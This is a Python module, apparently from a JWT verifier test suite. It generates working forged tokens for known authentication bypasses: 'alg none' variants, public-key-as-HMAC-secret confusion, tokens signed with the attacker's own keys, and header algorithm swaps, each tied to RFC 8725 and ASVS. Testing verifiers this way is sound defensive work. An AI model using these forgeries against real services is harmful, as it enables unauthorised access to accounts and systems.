"""Family `alg`: the token says how it is to be verified, and a verifier that listens lets anybody in."""

import json
from collections.abc import Iterator
from functools import cache

import jwt as pyjwt
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.asymmetric.types import PrivateKeyTypes, PublicKeyTypes
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat, load_pem_public_key

from authbench.attacks.compact import Jwt, encoded, mac, part
from authbench.attacks.findings import Try
from authbench.attacks.forged import forged
from authbench.attacks.forgery import Forgery
from authbench.attacks.target import Attack, NotApplicable, Target

FAMILY = "alg"
NONE = ("none", "None", "NONE", "nOnE", "none ", "", None)
MACS = ("HS256", "HS384", "HS512")
SWAPPED = ("HS256", "HS384", "HS512", "RS256", "RS512", "PS256", "ES256", "ES384", "EdDSA", "A128KW", "dir")
SWAP = "another algorithm in the header"


def unsigned(target: Target) -> Iterator[Try]:
    """`none` in its spellings and no `alg` at all: with no signature, without the third part, and with the old one."""
    token = target.jwt
    for name in NONE:
        head = f"{part({**token.header, 'alg': name})}.{token.payload}"
        yield from target.everywhere(f"alg {json.dumps(name)}, no signature", f"{head}.")
    without = part({key: value for key, value in token.header.items() if key != "alg"})
    for sent, text in (
        ("no alg, no signature", f"{without}.{token.payload}."),
        ("no alg, the old signature", f"{without}.{token.payload}.{encoded(token.signature)}"),
        ("alg none, two parts", f"{part({**token.header, 'alg': 'none'})}.{token.payload}"),
        ("alg none, the old signature", f"{part({**token.header, 'alg': 'none'})}.{token.payload}."
         + encoded(token.signature)),
        ("the right alg, no signature", f"{token.head}."),
        ("the right alg, two parts", token.head),
    ):  # fmt: skip
        yield from target.everywhere(sent, text)


def public_key_as_secret(target: Target) -> Iterator[Try]:
    """HMAC with the text of the public key, in every spelling that some library would have as the key."""
    token = target.jwt
    if not target.public_key:
        raise NotApplicable(target.unforgeable or f"{token.algorithm} has no public key")
    for spelling, key in spellings(target.public_key):
        for algorithm in MACS if spelling.startswith("PEM") else MACS[:1]:
            head = f"{part({**token.header, 'alg': algorithm})}.{token.payload}"
            yield from target.everywhere(f"{algorithm} with the public key, {spelling}", mac(head, key, algorithm))


def spellings(pem: str) -> Iterator[tuple[str, bytes]]:
    """A public key as bytes: PEM with and without its last line end, DER, JWK and, where it has one, its raw form."""
    key = load_pem_public_key(pem.encode())
    forms = [("SubjectPublicKeyInfo", PublicFormat.SubjectPublicKeyInfo)]
    if isinstance(key, rsa.RSAPublicKey):
        forms.append(("PKCS #1", PublicFormat.PKCS1))
    for name, form in forms:
        text = key.public_bytes(Encoding.PEM, form)
        yield f"PEM {name}", text
        yield f"PEM {name} without its last line end", text.rstrip(b"\n")
        yield f"DER {name}", key.public_bytes(Encoding.DER, form)
    jwk = jwk_of(key)
    yield "JWK", json.dumps(jwk).encode()
    yield "JWK without spaces, sorted", json.dumps(jwk, separators=(",", ":"), sort_keys=True).encode()
    if isinstance(key, ec.EllipticCurvePublicKey):
        yield "raw point", key.public_bytes(Encoding.X962, PublicFormat.UncompressedPoint)
    if isinstance(key, ed25519.Ed25519PublicKey):
        yield "raw point", key.public_bytes(Encoding.Raw, PublicFormat.Raw)


def jwk_of(key: PublicKeyTypes) -> dict[str, object]:
    """A public key as JSON (RFC 7517)."""
    if isinstance(key, rsa.RSAPublicKey):
        return dict(pyjwt.algorithms.RSAAlgorithm.to_jwk(key, as_dict=True))
    if isinstance(key, ec.EllipticCurvePublicKey):
        return dict(pyjwt.algorithms.ECAlgorithm.to_jwk(key, as_dict=True))
    assert isinstance(key, ed25519.Ed25519PublicKey)
    return dict(pyjwt.algorithms.OKPAlgorithm.to_jwk(key, as_dict=True))


@cache
def attackers_rsa_key() -> rsa.RSAPrivateKey:
    """Made once: it takes a tenth of a second."""
    return rsa.generate_private_key(65537, 2048)


def somebody_elses_key(target: Target) -> Iterator[Try]:
    """Rightly signed, with every kind of key, by keys of the attacker's own."""
    token = target.jwt
    keys: dict[str, PrivateKeyTypes] = {
        "RS256": attackers_rsa_key(),
        "PS256": attackers_rsa_key(),
        "ES256": ec.generate_private_key(ec.SECP256R1()),
        "EdDSA": ed25519.Ed25519PrivateKey.generate(),
    }
    for algorithm, key in keys.items():
        yield from target.everywhere(f"{algorithm} with the attacker's key", signed(token, algorithm, key))


def signed(token: Jwt, algorithm: str, key: PrivateKeyTypes, **header: object) -> str:
    """The token's claims, signed by that key under a header that says so."""
    head = f"{part({**token.header, 'alg': algorithm, **header})}.{token.payload}"
    prepared = pyjwt.get_algorithm_by_name(algorithm)
    return f"{head}.{encoded(prepared.sign(head.encode(), key))}"


def swaps(token: Jwt, now: int) -> Iterator[Forgery]:  # noqa: ARG001
    """The real key has signed it, under a header that names another algorithm."""
    payload = part(token.claiming())
    for name in SWAPPED:
        if name != token.algorithm:
            yield Forgery(
                SWAP, f"alg {name}, signed as {token.algorithm}", f"{part({**token.header, 'alg': name})}.{payload}"
            )
    for odd in ([token.algorithm], {"alg": token.algorithm}, 256, True):
        yield Forgery(SWAP, f"alg {json.dumps(odd)}", f"{part({**token.header, 'alg': odd})}.{payload}")


ATTACKS = (
    Attack("alg none", FAMILY, "RFC 8725, 2.1 and 3.1; RFC 7518, 3.6", unsigned),
    Attack("public key as HMAC secret", FAMILY, "RFC 8725, 2.1 and 3.1; ASVS 5.0, 9.1.2", public_key_as_secret),
    Attack("the attacker's own key", FAMILY, "RFC 8725, 3.3 and 3.8; ASVS 5.0, 9.1.3", somebody_elses_key),
    Attack(SWAP, FAMILY, "RFC 8725, 3.1; ASVS 5.0, 9.1.2", forged(SWAP)),
)
FORGERIES = (swaps,)
